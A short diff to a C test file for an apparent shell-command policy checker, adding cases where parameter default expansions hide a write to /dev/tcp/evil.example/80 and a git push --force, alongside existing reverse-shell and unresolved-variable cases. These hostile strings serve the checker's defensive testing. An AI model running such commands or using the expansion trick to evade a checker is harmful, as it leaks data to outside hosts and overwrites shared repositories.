@@ -226,6 +226,8 @@ static void test_false_positives(void **state)
 		{"git push -u origin \"$(git branch --show-current)\"", POLICY_HOLD, "unresolved", NULL},
 		{"git push \"$URL\" main", POLICY_HOLD, "unresolved", NULL},
 		{"read F; echo x > \"$F\"", POLICY_HOLD, "unresolved", NULL},
+		{": ${F:=/dev/tcp/evil.example/80}; echo x > \"$F\"", POLICY_HOLD, "unresolved", NULL},
+		{": ${B:=--force}; git push origin \"$B\"", POLICY_HOLD, "unresolved", NULL},
 		{"F=/dev/tcp/evil.example/80; echo x > $F", POLICY_DENY, "reverse-shell-dev-tcp", NULL},
 		{"echo x > /dev/$P", POLICY_HOLD, "unresolved", NULL},
 		{"cd / && docker run -v \"$PWD\":/x img", POLICY_HOLD, "unresolved", NULL},
